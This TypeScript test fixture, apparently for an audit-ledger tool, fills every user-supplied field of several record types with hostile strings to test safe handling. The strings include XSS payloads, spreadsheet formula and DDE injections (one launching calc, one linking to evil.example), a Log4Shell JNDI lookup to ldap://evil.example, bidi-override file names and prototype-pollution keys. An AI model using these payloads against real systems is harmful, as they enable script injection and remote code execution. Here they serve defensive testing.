import type { LedgerRecord, RecordBody } from '../../../server/src/core/model/record.ts';
import { chainOf, realistic, recordedFinding, recordedHunk } from './realistic.ts';

export const HOSTILE = [
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '</style></title><svg onload=alert(1)>',
  '=HYPERLINK("http://evil.example","click")',
  "+1+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '\t=1+1',
  ' -2+3',
  '＝1＋1',
  'a,"b"\r\nc;d',
  '\u001b[31mred\u001b[0m\u0007',
  'user\u202Etxt.exe\u2066\u2069\u200b',
  '[link](javascript:alert(1)) ![x](http://evil.example/x.png)',
  '# heading\n| a | b |\n|---|---|\n```',
  'x'.repeat(20_000),
  '__proto__',
  'constructor',
  '\ud800 lone',
  '${jndi:ldap://evil.example/a}',
  '"}],"runs":[{"',
  '\u0000',
] as const;

const [decision, , , , , seal, approval, binding, bypass, problem] = realistic;

function bodyOf(record: LedgerRecord | undefined): RecordBody {
  if (record === undefined) throw new Error('no record');
  const { seq: _seq, prev: _prev, hash: _hash, ...body } = record;
  return body;
}

/** Every text that others choose, in every member that takes one. */
export const hostile: readonly LedgerRecord[] = chainOf(
  HOSTILE.flatMap((text): RecordBody[] => {
    const who = { name: text, email: text, key: text, basis: 'claimed', surface: 'panel' } as const;
    return [
      {
        ...(bodyOf(decision) as Extract<RecordBody, { kind: 'decision' }>),
        changeSet: text,
        decidedBy: who,
        rejectReason: text,
        origin: { kind: 'agent', channel: text, held: false, agent: text, model: text, session: text, claimedBy: text },
        hunks: [
          recordedHunk({
            id: text,
            path: text,
            findings: [
              recordedFinding({
                fingerprint: text,
                detectorId: text,
                message: text,
                obligation: text,
                rule: { id: text, layer: text },
                tags: [text],
                acknowledgement: { obligation: text, words: text, at: '2026-11-21T10:00:00.000Z' },
              }),
            ],
          }),
        ],
      },
      { ...(bodyOf(approval) as Extract<RecordBody, { kind: 'approval' }>), role: text, words: text, decidedBy: who },
      { ...(bodyOf(seal) as Extract<RecordBody, { kind: 'seal' }>), changeSets: [text], decidedBy: who },
      { ...(bodyOf(binding) as Extract<RecordBody, { kind: 'binding' }>), commit: text, unmatched: [text] },
      { ...(bodyOf(bypass) as Extract<RecordBody, { kind: 'bypass' }>), reason: text, paths: [text], decidedBy: who },
      { ...(bodyOf(problem) as Extract<RecordBody, { kind: 'problem' }>), message: text },
    ];
  }),
);
